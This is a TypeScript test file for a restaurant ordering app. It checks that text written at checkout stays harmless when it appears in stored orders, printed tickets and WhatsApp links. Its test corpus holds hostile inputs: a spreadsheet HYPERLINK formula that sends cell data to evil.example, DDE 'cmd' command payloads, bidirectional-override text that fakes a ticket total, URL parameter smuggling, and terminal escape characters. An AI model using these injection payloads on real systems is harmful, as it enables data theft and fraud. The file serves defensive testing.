import { beforeAll, describe, expect, it } from "vitest";
import { orderMessage, whatsappLink } from "../../domain/order-message.ts";
import { ticketText } from "../../domain/ticket-text.ts";
import { ticketOfOrder } from "../../domain/ticket.ts";
import { withAccount } from "../db/with-account.ts";
import { findAccountHead } from "../tenancy/account-head.ts";
import { newCaller, signedInAdmin, type Caller } from "../testing/caller.ts";
import { newAccount, newMenu, type TestAccount } from "../testing/new-account.ts";
import { deliveryBody, sendOrder } from "../testing/new-order.ts";
import { refusalOf } from "../testing/refusal-of.ts";
import { sharedApp } from "../testing/start-app.ts";

const testApp = sharedApp();
let account: TestAccount;
let admin: Caller;
let water: string;
beforeAll(async () => {
  account = await newAccount(testApp);
  const ids = await newMenu(testApp, account, [
    { title: "Bebidas", items: [{ title: "Água", priceCents: 400 }] },
  ]);
  water = String(ids["Água"]);
  admin = await signedInAdmin(testApp, account);
});

const order = (written: string) =>
  deliveryBody(
    { [water]: { qty: 1, obs: written } },
    { userData: { name: written }, cartData: { obs: written } },
  );

/**
 * Texts that a spreadsheet would calculate, that reverse the text around them, or that pass for lines of the ticket.
 */
const corpus = [
  '=HYPERLINK("http://evil.example/?"&A1,"Total")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\uFF1D1+1",
  "Ana\nTotal R$ 0,01\n=1+1",
  "Ana\u2028Total | R$ 0,01",
  "\u202E10,0 $R latoT",
  "\u2066Ana\u2069\u200F\u061C",
  "Ana*bold*_x_~y~```z```",
  "https://evil.example/?a=1&text=trocado#x",
  "%0ATotal%3A%200&phone=1",
  "Z\u0338\u0336\u0334\u0333\u0332\u0331\u0330algo",
];

describe("threat 50: a text that somebody writes at the checkout", () => {
  it.each(corpus)("is a text wherever it comes out: %j", async (written) => {
    const { hash } = await sendOrder(newCaller(testApp, account), order(written));
    const stored = await admin.orders.get({ params: { hash } });
    const line = stored.details.items[0]?.obs ?? "";
    for (const text of [stored.user_name, stored.obs ?? "", line])
      expect(text).toBe(written.replaceAll(/\p{Bidi_Control}/gu, "").trim());

    const head = await withAccount(
      testApp.database,
      { accountId: account.accountId, mode: "read" },
      findAccountHead,
    );
    if (!head) throw new Error("The account is gone");
    const ticket = ticketOfOrder(stored, { ...head, time_zone: head.timeZone });
    for (const layout of ["customer", "production"] as const) {
      const { head: top, who, items, amounts, note } = ticketText(ticket, layout);
      const lines = [...top, ...who, ...items.flat(), ...amounts, ...note];
      // One total, and it is the order's.
      expect(lines.filter(({ text }) => text === "Total")).toMatchObject(
        layout === "customer" ? [{ amount: "R$ 4,00" }] : [],
      );
      for (const { text } of lines)
        expect(text).not.toMatch(/[\n\r\t\u2028\u2029]|\p{Bidi_Control}|\p{Cc}/u);
    }

    const message = orderMessage(ticket);
    const link = new URL(String(whatsappLink({ phone: "+55 11 95555-0101", text: message })));
    expect(`${link.origin}${link.pathname}`).toBe("https://wa.me/5511955550101");
    expect([...link.searchParams]).toEqual([["text", message]]);
    expect(message).not.toMatch(/\p{Bidi_Control}/u);
    expect(message.split("\n").filter((one) => /^\W*Total/.test(one))).toHaveLength(1);
  });

  it.each(["\u0000", "a\u0007b", "a\u001B[31mb", "a\rb", "\u009B2J", "a\uD800b"])(
    "is refused with characters that command a printer or a terminal: %j",
    async (written) => {
      expect(
        await refusalOf(
          newCaller(testApp, account).orders.place(
            { body: order(written) },
            { idempotencyKey: crypto.randomUUID() },
          ),
        ),
      ).toMatchObject({
        error: "unprocessable_entity",
      });
    },
  );
});
